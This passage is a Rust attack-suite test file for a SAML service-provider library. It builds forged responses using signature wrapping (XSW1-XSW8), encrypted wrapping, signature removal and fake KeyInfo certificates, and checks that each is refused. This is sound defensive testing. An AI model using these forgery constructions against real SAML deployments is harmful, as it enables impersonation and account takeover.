//! The attack suite (issue 10, item 1): every published way of breaking a
//! SAML service provider that applies to us, generated as cases from
//! genuine responses and run through the library
//! (`saml_core::protocol::ResponseValidator`) *and* through the layer
//! (`saml_tower::SamlLayer` in process, with a real login in progress).
//!
//! The genuine responses are signed twice over, once by our own signer and
//! once by `xmlsec1` (an independent implementation), so an attack is never
//! tested only against signatures of our own making. Each case names its
//! source (paper, CVE, advisory). A refused case must carry one of the
//! listed error codes; through the layer it must also be a 4xx with that
//! code, never a 500, never a session, and the browser stays anonymous. An
//! accepted case (comments and KeyInfo swaps, where the invariants say the
//! genuine, complete value is what counts) must yield exactly that value.
//!
//! Controls: the genuine responses of every shape are accepted in both
//! runs, so a refusal is the attack's doing, not a broken fixture.
//!
//! DESIGN.md section 7 lists the invariants; docs/security.md maps the case
//! families to the invariants.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

#[path = "../src/attacks/kit.rs"]
mod kit;
#[path = "../src/attacks/layer.rs"]
mod layer;

use chrono::{DateTime, Duration, Utc};
use http::StatusCode;
use saml_core::binding::{decode_post, decode_redirect, encode_redirect};
use saml_core::c14n::Method;
use saml_core::clock::{FixedClock, parse_datetime};
use saml_core::protocol::{Expectation, ResponseValidator};
use saml_core::xml::Document;
use saml_core::{ErrorCode, Limits};
use saml_store_memory::MemoryStore;

use kit::{
    ADMIN, ALICE, Base, Ctx, DS_NS, SAML_NS, SAMLP_NS, SIGNERS, Signer, between, element,
    encrypted, fresh_id, insert_after_first, insert_before_first, keys, replace1, sha256_b64,
    signature_of, standard_transforms, template, without_signature, xmlsec_sign_template,
};
use layer::{Browser, Node, TestClock, form_body, percent};

use ErrorCode::{
    AlgorithmForbidden, AmbiguousAssertion, DecryptionFailed, DigestMismatch, DtdForbidden,
    InResponseToMismatch, InputTooLarge, IssuerMismatch, MalformedXml, ReferenceMismatch,
    SignatureInvalid, SignatureMissing, UnsolicitedResponse, UnsupportedEncoding,
};

// ====================================================================
// Cases and how they are judged
// ====================================================================

/// What must happen to a case.
#[derive(Debug, Clone, Copy)]
enum Want<'c> {
    /// Refused with one of these codes.
    Refused(&'c [ErrorCode]),
    /// Accepted, and the NameID and the `mail` attribute are exactly this.
    Accepted(&'c str),
}

/// Every error code, for the self-check below.
const ALL_CODES: &[ErrorCode] = &[
    ErrorCode::MalformedXml,
    ErrorCode::DtdForbidden,
    ErrorCode::InputTooLarge,
    ErrorCode::UnsupportedEncoding,
    ErrorCode::DuplicateId,
    ErrorCode::SignatureMissing,
    ErrorCode::SignatureInvalid,
    ErrorCode::DigestMismatch,
    ErrorCode::UntrustedKey,
    ErrorCode::AlgorithmForbidden,
    ErrorCode::ReferenceMismatch,
    ErrorCode::AmbiguousAssertion,
    ErrorCode::StatusNotSuccess,
    ErrorCode::IssuerMismatch,
    ErrorCode::DestinationMismatch,
    ErrorCode::AudienceMismatch,
    ErrorCode::RecipientMismatch,
    ErrorCode::InResponseToMismatch,
    ErrorCode::UnsolicitedResponse,
    ErrorCode::NotYetValid,
    ErrorCode::Expired,
    ErrorCode::Replayed,
    ErrorCode::DecryptionFailed,
    ErrorCode::UnknownProvider,
    ErrorCode::MissingAttribute,
    ErrorCode::AuthnContextMismatch,
    ErrorCode::StoreUnavailable,
];

/// Self-check that a case can fail: judged against the opposite
/// expectations (the other codes, or acceptance, or another user), the same
/// outcome must be a failure. Returns the expectation that wrongly passed.
fn cannot_fail(want: Want<'_>, judge: impl Fn(Want<'_>) -> Option<String>) -> Option<String> {
    let others: Vec<ErrorCode> = ALL_CODES
        .iter()
        .copied()
        .filter(|c| !matches!(want, Want::Refused(codes) if codes.contains(c)))
        .collect();
    let flipped = match want {
        Want::Refused(_) => [Want::Refused(&others), Want::Accepted(ADMIN)],
        Want::Accepted(_) => [
            Want::Refused(ALL_CODES),
            Want::Accepted("someone.else@example.com"),
        ],
    };
    flipped
        .into_iter()
        .find(|f| judge(*f).is_none())
        .map(|f| format!("the case also passes when expecting {f:?}: it cannot fail"))
}

/// One generated attack.
struct Case {
    name: &'static str,
    /// The paper, CVE or advisory the case comes from.
    source: &'static str,
    /// The genuine NameID (raw XML) the IdP signs in the base.
    subject: &'static str,
    build: fn(&Base) -> String,
    want: Want<'static>,
    /// A different outcome through the layer, where it reads the message
    /// before the library does (provider lookup, pending request).
    layer: Option<Want<'static>>,
}

impl Case {
    fn new(
        name: &'static str,
        source: &'static str,
        build: fn(&Base) -> String,
        want: Want<'static>,
    ) -> Self {
        Self {
            name,
            source,
            subject: ALICE,
            build,
            want,
            layer: None,
        }
    }

    const fn subject(mut self, subject: &'static str) -> Self {
        self.subject = subject;
        self
    }

    const fn layer(mut self, want: Want<'static>) -> Self {
        self.layer = Some(want);
        self
    }
}

const fn refused(codes: &'static [ErrorCode]) -> Want<'static> {
    Want::Refused(codes)
}

/// Every refusal a wrapping attempt may legitimately end in.
const WRAPPING: &[ErrorCode] = &[
    SignatureInvalid,
    AmbiguousAssertion,
    DigestMismatch,
    ReferenceMismatch,
];

// ---------------------------------------------------------------- library

const LIB_IDP: &str = "https://idp.example.test/metadata";
const LIB_SP: &str = "https://sp.example.test/saml/metadata";
const LIB_ACS: &str = "https://sp.example.test/saml/acs";
const LIB_REQUEST: &str = "_request-under-attack";

fn lib_now() -> DateTime<Utc> {
    parse_datetime("2026-03-02T09:00:00Z").unwrap()
}

fn lib_ctx() -> Ctx {
    Ctx {
        idp: LIB_IDP.into(),
        sp: LIB_SP.into(),
        acs: LIB_ACS.into(),
        request_id: Some(LIB_REQUEST.into()),
        now: lib_now(),
    }
}

fn validator() -> ResponseValidator {
    let mut v = ResponseValidator::new(LIB_IDP, vec![keys().idp.public()], LIB_SP, LIB_ACS);
    v.decryption_keys = vec![keys().decryption()];
    v
}

fn validate(xml: &str) -> Result<saml_core::protocol::Assertion, ErrorCode> {
    let expect = Expectation {
        in_response_to: Some(LIB_REQUEST),
        force_authn_since: None,
    };
    validator()
        .validate_xml(xml, &expect, &FixedClock(lib_now()))
        .map_err(|e| e.code())
}

fn judge_library(
    want: Want<'_>,
    got: &Result<saml_core::protocol::Assertion, ErrorCode>,
) -> Option<String> {
    match (want, got) {
        (Want::Refused(codes), Err(code)) if codes.contains(code) => None,
        (Want::Refused(codes), Err(code)) => {
            Some(format!("refused with `{code}`, expected one of {codes:?}"))
        }
        (Want::Refused(_), Ok(a)) => Some(format!(
            "ACCEPTED as `{}` (a vulnerability)",
            a.name_id.value
        )),
        (Want::Accepted(name), Ok(a)) => {
            let mail = a.attribute_values("mail");
            (a.name_id.value != name || mail != [name]).then(|| {
                format!(
                    "accepted as `{}` (mail {mail:?}), expected `{name}`",
                    a.name_id.value
                )
            })
        }
        (Want::Accepted(name), Err(code)) => Some(format!(
            "refused with `{code}`, expected acceptance as `{name}`"
        )),
    }
}

/// Runs every case through `ResponseValidator`, with bases from both
/// signers, and reports all failures at once.
fn run_library(cases: &[Case]) {
    assert!(!cases.is_empty());
    let mut failures = Vec::new();
    for signer in SIGNERS {
        for case in cases {
            let base = Base::with_subject(&lib_ctx(), signer, case.subject);
            let xml = (case.build)(&base);
            let got = validate(&xml);
            let problem = judge_library(case.want, &got)
                .or_else(|| cannot_fail(case.want, |w| judge_library(w, &got)));
            if let Some(p) = problem {
                failures.push(format!(
                    "[library, {signer:?}] {}: {p}\n    source: {}",
                    case.name, case.source
                ));
            }
        }
    }
    assert!(
        failures.is_empty(),
        "{} failure(s):\n{}",
        failures.len(),
        failures.join("\n")
    );
}

// ---------------------------------------------------------------- layer

/// Runs every case through the layer: a browser starts a real login, the
/// attack answers that very request, and is posted from that browser (so
/// the binding cookie is right and only the attack itself can fail it).
async fn run_layer(cases: &[Case]) {
    assert!(!cases.is_empty());
    let mut failures = Vec::new();
    for signer in SIGNERS {
        let node = Node::new(|_| {});
        for case in cases {
            let mut browser = Browser::default();
            let request = browser.begin_login(&node, "").await;
            let base = Base::with_subject(&node.ctx(Some(request)), signer, case.subject);
            let xml = (case.build)(&base);
            let calls_before = node.calls();
            let reply = browser.post_response(&node, &xml, None).await;
            let user = browser.user(&node).await;
            let who = user.as_ref().map(|(name, _)| name.as_str());
            let mail = user.as_ref().map(|(_, mail)| mail.as_slice());
            let want = case.layer.unwrap_or(case.want);
            let judge = |w: Want<'_>| judge_layer(w, &reply, who, mail, &node, calls_before);
            let problem = judge(want).or_else(|| cannot_fail(want, judge));
            if let Some(p) = problem {
                failures.push(format!(
                    "[layer, {signer:?}] {}: {p}\n    source: {}\n    reply: {} {:?} {}",
                    case.name,
                    case.source,
                    reply.status,
                    reply.code(),
                    reply.body.chars().take(300).collect::<String>()
                ));
            }
        }
    }
    assert!(
        failures.is_empty(),
        "{} failure(s):\n{}",
        failures.len(),
        failures.join("\n")
    );
}

fn judge_layer(
    want: Want<'_>,
    reply: &layer::Reply,
    who: Option<&str>,
    mail: Option<&[String]>,
    node: &Node,
    calls_before: usize,
) -> Option<String> {
    if reply.status == StatusCode::INTERNAL_SERVER_ERROR {
        return Some("answered 500".into());
    }
    // The ACS never reaches the application; `whoami` does, once.
    if node.calls() != calls_before + 1 {
        return Some("the ACS request reached the inner service".into());
    }
    match want {
        Want::Refused(codes) => {
            if !reply.status.is_client_error() {
                return Some(format!("status {}, expected a 4xx", reply.status));
            }
            let Some(code) = reply.code() else {
                return Some("no Rejection in the response".into());
            };
            if !codes.iter().any(|c| c.as_str() == code) {
                return Some(format!("refused with `{code}`, expected one of {codes:?}"));
            }
            if reply.sets_session() {
                return Some("a refusal set a session cookie".into());
            }
            who.map(|w| format!("the browser is signed in as `{w}` (a vulnerability)"))
        }
        Want::Accepted(name) => {
            if reply.status != StatusCode::SEE_OTHER || !reply.sets_session() {
                return Some(format!(
                    "status {} {:?}, expected a 303 with a session",
                    reply.status,
                    reply.code()
                ));
            }
            (who != Some(name) || mail.is_none_or(|m| m != [name]))
                .then(|| format!("signed in as {who:?} (mail {mail:?}), expected `{name}`"))
        }
    }
}

fn rt() -> tokio::runtime::Runtime {
    tokio::runtime::Builder::new_current_thread()
        .build()
        .unwrap()
}

/// Declares the library test and the layer test of one family.
macro_rules! family {
    ($cases:ident, $lib:ident, $layer:ident) => {
        #[test]
        fn $lib() {
            run_library(&$cases());
        }

        #[test]
        fn $layer() {
            rt().block_on(run_layer(&$cases()));
        }
    };
}

// ====================================================================
// Helpers the cases share
// ====================================================================

const SOMOROVSKY: &str = "Somorovsky, Mayer, Schwenk, Kampmann, Jensen: On Breaking SAML: Be Whoever You Want to Be, USENIX Security 2012, https://www.usenix.org/conference/usenixsecurity12/technical-sessions/presentation/somorovsky";
const DUO: &str = "CVE-2018-7340 (Duo Network Gateway); Duo Labs, Duo Finds SAML Vulnerabilities Affecting Multiple Implementations (2018), https://duo.com/blog/duo-finds-saml-vulnerabilities-affecting-multiple-implementations; CERT VU#475445";
const DSIG_BP: &str =
    "W3C XML Signature Best Practices (2013), https://www.w3.org/TR/xmldsig-bestpractices/";
const XXE: &str = "OWASP XML External Entity Prevention Cheat Sheet, https://cheatsheetseries.owasp.org/cheatsheets/XML_External_Entity_Prevention_Cheat_Sheet.html";
const GO_ROUNDTRIP: &str = "Mattermost, XML round-trip vulnerabilities in Go's encoding/xml (CVE-2020-29509, CVE-2020-29510, CVE-2020-29511), https://mattermost.com/blog/coordinated-disclosure-go-xml-vulnerabilities/";

/// The base64 SHA-256 digest of the exclusive C14N of `xml`'s root: what a
/// forger puts in a DigestValue for content of their own.
fn digest_of(xml: &str) -> String {
    let doc = Document::parse(xml, &Limits::default()).unwrap();
    sha256_b64(&Method::Exclusive.canonicalize(doc.root()))
}

/// The attacker's assertion's digest.
fn evil_digest(b: &Base) -> String {
    digest_of(&b.evil)
}

/// Replaces the text of the first `<ds:{name}>` element.
fn set_text(xml: &str, name: &str, text: &str) -> String {
    let open = format!("<ds:{name}>");
    let close = format!("</ds:{name}>");
    let old = between(xml, &open, &close);
    replace1(
        xml,
        &format!("{open}{old}{close}"),
        &format!("{open}{text}{close}"),
    )
}

/// The genuine signature's DigestValue text.
fn genuine_digest(b: &Base) -> String {
    between(&b.signed_assertion, "<ds:DigestValue>", "</ds:DigestValue>").to_owned()
}

/// The attacker's assertion carrying the genuine signature, in a Response.
fn xsw_evil_signed(b: &Base) -> String {
    b.response(&b.evil_with_signature())
}

/// Replaces the Transforms of the (first) signature by `transforms`.
fn with_transforms(xml: &str, transforms: &str) -> String {
    let old = element(xml, "<ds:Transforms>", "</ds:Transforms>");
    replace1(
        xml,
        old,
        &format!("<ds:Transforms>{transforms}</ds:Transforms>"),
    )
}

/// Alice's assertion signed by the IdP with these Reference transforms: by
/// xmlsec1 for real (a genuine signature the IdP really made), by our
/// signer as the usual signature with the transforms swapped in (ours
/// refuses to make such signatures). Returns the response.
fn signed_with_transforms(b: &Base, transforms: &str) -> String {
    let signed = match b.signer {
        Signer::Xmlsec => {
            let doc = kit::after_issuer_of(&b.assertion, &b.aid, &template(&b.aid, transforms));
            xmlsec_sign_template(&doc, &keys().idp).unwrap_or_else(|e| {
                // An xmlsec1 built without this transform: the swapped-in
                // variant still tests the refusal.
                eprintln!("xmlsec1 cannot sign with {transforms}: {e}");
                with_transforms(&b.signed_assertion, transforms)
            })
        }
        Signer::Ours => with_transforms(&b.signed_assertion, transforms),
    };
    b.response(&signed)
}

/// An IdP-signed metadata document (EntityDescriptor, Signature first), as
/// federations publish them: any attacker can fetch one.
fn signed_metadata(b: &Base) -> String {
    let id = fresh_id("md");
    let md = format!(
        concat!(
            r#"<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" ID="{id}" entityID="{idp}">"#,
            r#"<md:IDPSSODescriptor protocolSupportEnumeration="{samlp}">"#,
            r#"<md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect" Location="https://idp.example.test/sso"/>"#,
            r#"</md:IDPSSODescriptor></md:EntityDescriptor>"#
        ),
        id = id,
        idp = b.ctx.idp,
        samlp = SAMLP_NS,
    );
    match b.signer {
        Signer::Ours => saml_core::dsig::sign_enveloped(
            &md,
            &id,
            &keys().idp.signing(),
            &saml_core::dsig::SignOptions::default(),
        )
        .unwrap(),
        Signer::Xmlsec => {
            let doc = insert_after_first(&md, ">", &template(&id, &standard_transforms()));
            xmlsec_sign_template(&doc, &keys().idp).unwrap()
        }
    }
}

/// An IdP-signed LogoutResponse (the IdP signs these for any SP).
fn signed_logout_response(b: &Base) -> String {
    let id = fresh_id("lr");
    let xml = format!(
        concat!(
            r#"<samlp:LogoutResponse xmlns:samlp="{samlp}" xmlns:saml="{saml}" ID="{id}" Version="2.0" IssueInstant="2026-03-02T09:00:00Z" Destination="{acs}">"#,
            r#"<saml:Issuer>{idp}</saml:Issuer><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status></samlp:LogoutResponse>"#
        ),
        samlp = SAMLP_NS,
        saml = SAML_NS,
        id = id,
        acs = b.ctx.acs,
        idp = b.ctx.idp,
    );
    b.idp_sign(&xml, &id)
}

/// A SignedInfo over `#id` with `digest`, with its own `ds` declaration, and
/// its exclusive canonical form.
fn signed_info(id: &str, method: &str, digest: &str) -> (String, Vec<u8>) {
    let xml = format!(
        concat!(
            r#"<ds:SignedInfo xmlns:ds="{ds}"><ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>"#,
            r##"<ds:SignatureMethod Algorithm="{method}"/><ds:Reference URI="#{id}"><ds:Transforms>{tr}</ds:Transforms>"##,
            r#"<ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/><ds:DigestValue>{digest}</ds:DigestValue></ds:Reference></ds:SignedInfo>"#
        ),
        ds = DS_NS,
        method = method,
        id = id,
        tr = standard_transforms(),
        digest = digest,
    );
    let doc = Document::parse(&xml, &Limits::default()).unwrap();
    let c14n = Method::Exclusive.canonicalize(doc.root());
    (xml, c14n)
}

// ====================================================================
// Controls: the genuine responses, every shape, are accepted
// ====================================================================

fn controls() -> Vec<Case> {
    let src = "control (no attack): SAML 2.0 Core and Profiles, the shapes real IdPs send";
    vec![
        Case::new(
            "assertion signed",
            src,
            Base::assertion_signed,
            Want::Accepted(ALICE),
        ),
        Case::new(
            "response signed",
            src,
            Base::response_signed,
            Want::Accepted(ALICE),
        ),
        Case::new("both signed", src, Base::both_signed, Want::Accepted(ALICE)),
        Case::new(
            "signed assertion, encrypted",
            src,
            |b| b.response(&encrypted(&b.signed_assertion)),
            Want::Accepted(ALICE),
        ),
        Case::new(
            "response signed around an encrypted assertion",
            src,
            |b| b.encrypted_response_signed(&b.assertion),
            Want::Accepted(ALICE),
        ),
    ]
}

family!(
    controls,
    controls_genuine_responses_are_accepted_by_the_library,
    controls_genuine_responses_are_accepted_by_the_layer
);

// ====================================================================
// XML Signature Wrapping, XSW1-XSW8
// ====================================================================

fn xsw() -> Vec<Case> {
    vec![
        // XSW1: an evil Response whose (copied) Signature holds the signed
        // original Response in an Object.
        Case::new(
            "XSW1",
            SOMOROVSKY,
            |b| {
                let signed = b.response_signed();
                let sig = replace1(
                    signature_of(&signed),
                    "</ds:Signature>",
                    &format!("<ds:Object>{signed}</ds:Object></ds:Signature>"),
                );
                insert_after_first(&b.response(&b.evil), "</saml:Issuer>", &sig)
            },
            refused(WRAPPING),
        ),
        // XSW2: the evil Response with the copied Signature, the original
        // signed Response detached beside it.
        Case::new(
            "XSW2",
            SOMOROVSKY,
            |b| {
                let signed = b.response_signed();
                let sig = signature_of(&signed).to_owned();
                insert_after_first(
                    &b.response(&b.evil),
                    "</saml:Issuer>",
                    &format!("{sig}{signed}"),
                )
            },
            refused(WRAPPING),
        ),
        // XSW3: the evil assertion (same ID) before the signed one.
        Case::new(
            "XSW3",
            SOMOROVSKY,
            |b| b.response(&format!("{}{}", b.evil, b.signed_assertion)),
            refused(WRAPPING),
        ),
        // XSW4: the evil assertion wraps the signed one.
        Case::new(
            "XSW4",
            SOMOROVSKY,
            |b| {
                b.response(&replace1(
                    &b.evil,
                    "</saml:Assertion>",
                    &format!("{}</saml:Assertion>", b.signed_assertion),
                ))
            },
            refused(WRAPPING),
        ),
        // XSW5: the evil assertion carries the copied signature; the
        // original, without it, follows.
        Case::new(
            "XSW5",
            SOMOROVSKY,
            |b| {
                b.response(&format!(
                    "{}{}",
                    b.evil_with_signature(),
                    without_signature(&b.signed_assertion)
                ))
            },
            refused(WRAPPING),
        ),
        // XSW6: the evil assertion carries the copied signature, the signed
        // original inside that signature's Object.
        Case::new(
            "XSW6",
            SOMOROVSKY,
            |b| {
                b.response(&replace1(
                    &b.evil_with_signature(),
                    "</ds:Signature>",
                    &format!(
                        "<ds:Object>{}</ds:Object></ds:Signature>",
                        b.signed_assertion
                    ),
                ))
            },
            refused(WRAPPING),
        ),
        // XSW7: the signed original hidden in an Extensions element, the
        // evil assertion (unsigned) in its place.
        Case::new(
            "XSW7",
            SOMOROVSKY,
            |b| {
                let r = b.response(&b.evil);
                insert_before_first(
                    &r,
                    "<samlp:Status>",
                    &format!(
                        "<samlp:Extensions>{}</samlp:Extensions>",
                        b.signed_assertion
                    ),
                )
            },
            refused(WRAPPING),
        ),
        // XSW7 as SAML Raider builds it: the evil assertion also carries the
        // copied signature.
        Case::new(
            "XSW7 with the copied signature",
            SOMOROVSKY,
            |b| {
                let r = b.response(&b.evil_with_signature());
                insert_before_first(
                    &r,
                    "<samlp:Status>",
                    &format!(
                        "<samlp:Extensions>{}</samlp:Extensions>",
                        without_signature(&b.signed_assertion)
                    ),
                )
            },
            refused(WRAPPING),
        ),
        // XSW8: the evil assertion carries the copied signature, the original
        // without its signature inside an Object of that signature.
        Case::new(
            "XSW8",
            SOMOROVSKY,
            |b| {
                b.response(&replace1(
                    &b.evil_with_signature(),
                    "</ds:SignatureValue>",
                    &format!(
                        "</ds:SignatureValue><ds:Object>{}</ds:Object>",
                        without_signature(&b.signed_assertion)
                    ),
                ))
            },
            refused(WRAPPING),
        ),
        // Wrapping inside a signed Response: the evil assertion added to a
        // Response whose signature covers only the original content.
        Case::new(
            "signed Response, evil assertion appended",
            SOMOROVSKY,
            |b| {
                replace1(
                    &b.both_signed(),
                    "</samlp:Response>",
                    &format!("{}</samlp:Response>", b.evil),
                )
            },
            refused(WRAPPING),
        ),
        // A signed assertion in a Response whose unsigned fields the
        // attacker changed: nothing the attacker can change is read.
        Case::new(
            "signed assertion in a forged Response (Response fields changed)",
            SOMOROVSKY,
            |b| {
                b.assertion_signed().replacen(
                    &format!(r#"ID="{}""#, b.rid),
                    r#"ID="_forged" Consent="urn:oasis:names:tc:SAML:2.0:consent:obtained""#,
                    1,
                )
            },
            Want::Accepted(ALICE),
        ),
    ]
}

family!(
    xsw,
    xsw_permutations_are_refused_by_the_library,
    xsw_permutations_are_refused_by_the_layer
);

// ====================================================================
// XSW combined with EncryptedAssertion
// ====================================================================

/// Anyone can encrypt for the SP (its certificate is in its metadata), so
/// every wrapping permutation can also be delivered encrypted. Without a
/// Response signature the ciphertext is not authenticated, and every failure
/// inside it reads `decryption_failed` (no format oracle).
fn xsw_encrypted() -> Vec<Case> {
    let src = "Somorovsky et al. 2012 (XSW) with XML Encryption: Jager, Somorovsky, How To Break XML Encryption, ACM CCS 2011; ruby-saml CVE-2016-5697 (signature referencing an element inside an EncryptedAssertion)";
    vec![
        Case::new(
            "E1 evil assertion encrypted, unsigned",
            src,
            |b| b.response(&encrypted(&b.evil)),
            refused(&[SignatureMissing]),
        ),
        Case::new(
            "E2 evil assertion with the copied signature, encrypted",
            src,
            |b| b.response(&encrypted(&b.evil_with_signature())),
            refused(&[DecryptionFailed]),
        ),
        Case::new(
            "E3 XSW4 inside the ciphertext",
            src,
            |b| {
                b.response(&encrypted(&replace1(
                    &b.evil,
                    "</saml:Assertion>",
                    &format!("{}</saml:Assertion>", b.signed_assertion),
                )))
            },
            refused(&[DecryptionFailed]),
        ),
        Case::new(
            "E4 XSW3 inside the ciphertext (two assertions)",
            src,
            |b| b.response(&encrypted(&format!("{}{}", b.evil, b.signed_assertion))),
            refused(&[DecryptionFailed]),
        ),
        Case::new(
            "E5 XSW8 inside the ciphertext",
            src,
            |b| {
                b.response(&encrypted(&replace1(
                    &b.evil_with_signature(),
                    "</ds:SignatureValue>",
                    &format!(
                        "</ds:SignatureValue><ds:Object>{}</ds:Object>",
                        without_signature(&b.signed_assertion)
                    ),
                )))
            },
            refused(&[DecryptionFailed]),
        ),
        Case::new(
            "E6 encrypted genuine assertion plus a plaintext evil one",
            src,
            |b| b.response(&format!("{}{}", encrypted(&b.signed_assertion), b.evil)),
            refused(&[AmbiguousAssertion]),
        ),
        Case::new(
            "E7 plaintext genuine assertion plus an encrypted evil one",
            src,
            |b| b.response(&format!("{}{}", b.signed_assertion, encrypted(&b.evil))),
            refused(&[AmbiguousAssertion]),
        ),
        Case::new(
            "E8 signed Response: its EncryptedAssertion swapped for the attacker's",
            src,
            |b| {
                let signed = b.encrypted_response_signed(&b.assertion);
                let old = element(
                    &signed,
                    "<saml:EncryptedAssertion",
                    "</saml:EncryptedAssertion>",
                )
                .to_owned();
                replace1(&signed, &old, &encrypted(&b.evil))
            },
            refused(&[DigestMismatch]),
        ),
        Case::new(
            "E9 signed Response around a genuine EncryptedAssertion, an encrypted evil one hidden in Extensions",
            src,
            |b| {
                let signed = b.encrypted_response_signed(&b.assertion);
                insert_before_first(
                    &signed,
                    "<samlp:Status>",
                    &format!(
                        "<samlp:Extensions>{}</samlp:Extensions>",
                        encrypted(&b.evil)
                    ),
                )
            },
            refused(&[DigestMismatch, AmbiguousAssertion]),
        ),
        Case::new(
            "E10 XSW1 with an encrypted evil assertion",
            src,
            |b| {
                let signed = b.encrypted_response_signed(&b.assertion);
                let sig = replace1(
                    signature_of(&signed),
                    "</ds:Signature>",
                    &format!("<ds:Object>{signed}</ds:Object></ds:Signature>"),
                );
                insert_after_first(&b.response(&encrypted(&b.evil)), "</saml:Issuer>", &sig)
            },
            refused(WRAPPING),
        ),
        Case::new(
            "E11 genuine EncryptedAssertion hidden in Extensions, evil plaintext assertion",
            src,
            |b| {
                insert_before_first(
                    &b.response(&b.evil),
                    "<samlp:Status>",
                    &format!(
                        "<samlp:Extensions>{}</samlp:Extensions>",
                        encrypted(&b.signed_assertion)
                    ),
                )
            },
            refused(&[AmbiguousAssertion]),
        ),
    ]
}

family!(
    xsw_encrypted,
    xsw_with_encryption_is_refused_by_the_library,
    xsw_with_encryption_is_refused_by_the_layer
);

// ====================================================================
// Signature exclusion
// ====================================================================

fn signature_exclusion() -> Vec<Case> {
    vec![
        Case::new(
            "no signature anywhere (evil assertion)",
            SOMOROVSKY,
            |b| b.response(&b.evil),
            refused(&[SignatureMissing]),
        ),
        Case::new(
            "Response signature removed, assertion changed",
            SOMOROVSKY,
            |b| without_signature(&b.response_signed()).replace(ALICE, ADMIN),
            refused(&[SignatureMissing]),
        ),
        Case::new(
            "assertion signature removed, assertion changed",
            SOMOROVSKY,
            |b| without_signature(&b.assertion_signed()).replace(ALICE, ADMIN),
            refused(&[SignatureMissing]),
        ),
        Case::new(
            "empty SignatureValue (genuine content)",
            SOMOROVSKY,
            |b| set_text(&b.assertion_signed(), "SignatureValue", ""),
            refused(&[SignatureInvalid]),
        ),
        Case::new(
            "empty SignatureValue, digest recomputed for the evil content",
            SOMOROVSKY,
            |b| {
                let r = xsw_evil_signed(b);
                set_text(
                    &set_text(&r, "DigestValue", &evil_digest(b)),
                    "SignatureValue",
                    "",
                )
            },
            refused(&[SignatureInvalid]),
        ),
        Case::new(
            "SignatureValue of zero bytes in base64 (AAAA)",
            SOMOROVSKY,
            |b| set_text(&b.assertion_signed(), "SignatureValue", "AAAA"),
            refused(&[SignatureInvalid]),
        ),
        Case::new(
            "SignatureValue element removed",
            SOMOROVSKY,
            |b| {
                let r = b.assertion_signed();
                let sv = element(&r, "<ds:SignatureValue", "</ds:SignatureValue>").to_owned();
                replace1(&r, &sv, "")
            },
            refused(&[SignatureInvalid]),
        ),
        Case::new(
            "Signature with no Reference",
            SOMOROVSKY,
            |b| {
                let r = b.assertion_signed();
                let reference = element(&r, "<ds:Reference", "</ds:Reference>").to_owned();
                replace1(&r, &reference, "")
            },
            refused(&[ReferenceMismatch]),
        ),
        Case::new(
            "Signature with no Reference over the evil content",
            SOMOROVSKY,
            |b| {
                let r = xsw_evil_signed(b);
                let reference = element(&r, "<ds:Reference", "</ds:Reference>").to_owned();
                replace1(&r, &reference, "")
            },
            refused(&[ReferenceMismatch]),
        ),
        Case::new(
            "empty ds:Signature element",
            SOMOROVSKY,
            |b| {
                let r = b.assertion_signed();
                let sig = signature_of(&r).to_owned();
                replace1(&r, &sig, &format!(r#"<ds:Signature xmlns:ds="{DS_NS}"/>"#))
                    .replace(ALICE, ADMIN)
            },
            refused(&[SignatureInvalid]),
        ),
        Case::new(
            "empty SignedInfo",
            SOMOROVSKY,
            |b| {
                let r = xsw_evil_signed(b);
                let si = element(&r, "<ds:SignedInfo", "</ds:SignedInfo>").to_owned();
                replace1(&r, &si, "<ds:SignedInfo></ds:SignedInfo>")
            },
            refused(&[SignatureInvalid]),
        ),
        Case::new(
            "empty DigestValue",
            SOMOROVSKY,
            |b| set_text(&xsw_evil_signed(b), "DigestValue", ""),
            refused(&[DigestMismatch]),
        ),
        Case::new(
            "the assertion's signature moved onto the unsigned Response",
            SOMOROVSKY,
            |b| {
                let sig = signature_of(&b.signed_assertion).to_owned();
                insert_after_first(&b.response(&b.evil), "</saml:Issuer>", &sig)
            },
            refused(&[ReferenceMismatch]),
        ),
    ]
}

family!(
    signature_exclusion,
    signature_exclusion_is_refused_by_the_library,
    signature_exclusion_is_refused_by_the_layer
);

// ====================================================================
// Certificate faking (KeyInfo)
// ====================================================================

fn certificate_faking() -> Vec<Case> {
    let src = "Somorovsky et al. 2012, certificate faking; xml-crypto CVE-2024-32962 (GHSA-2xp3-57p7-qf4v: the KeyInfo certificate was trusted)";
    vec![
        Case::new(
            "evil assertion signed by the attacker, attacker certificate in KeyInfo",
            src,
            |b| b.response(&b.attacker_sign(&b.evil, &b.aid)),
            refused(&[SignatureInvalid]),
        ),
        Case::new(
            "signed by the attacker, KeyInfo names the trusted IdP certificate",
            src,
            |b| {
                let signed = b.attacker_sign(&b.evil, &b.aid);
                let old = between(&signed, "<ds:X509Certificate>", "</ds:X509Certificate>");
                b.response(&signed.replacen(old, &keys().idp.cert_b64(), 1))
            },
            refused(&[SignatureInvalid]),
        ),
        Case::new(
            "signed by the attacker, KeyInfo with both certificates",
            src,
            |b| {
                let signed = b.attacker_sign(&b.evil, &b.aid);
                b.response(&replace1(
                    &signed,
                    "<ds:X509Certificate>",
                    &format!(
                        "<ds:X509Certificate>{}</ds:X509Certificate><ds:X509Certificate>",
                        keys().idp.cert_b64()
                    ),
                ))
            },
            refused(&[SignatureInvalid]),
        ),
        Case::new(
            "signed by the attacker, KeyInfo is a KeyName of the IdP",
            src,
            |b| {
                let signed = b.attacker_sign(&b.evil, &b.aid);
                let ki = element(&signed, "<ds:KeyInfo", "</ds:KeyInfo>").to_owned();
                b.response(&replace1(
                    &signed,
                    &ki,
                    "<ds:KeyInfo><ds:KeyName>idp-signing</ds:KeyName></ds:KeyInfo>",
                ))
            },
            refused(&[SignatureInvalid]),
        ),
        Case::new(
            "the whole Response signed by the attacker",
            src,
            |b| b.attacker_sign(&b.response(&b.evil), &b.rid),
            refused(&[SignatureInvalid]),
        ),
        Case::new(
            "Response and assertion signed by the attacker",
            src,
            |b| {
                let a = b.attacker_sign(&b.evil, &b.aid);
                b.attacker_sign(&b.response(&a), &b.rid)
            },
            refused(&[SignatureInvalid]),
        ),
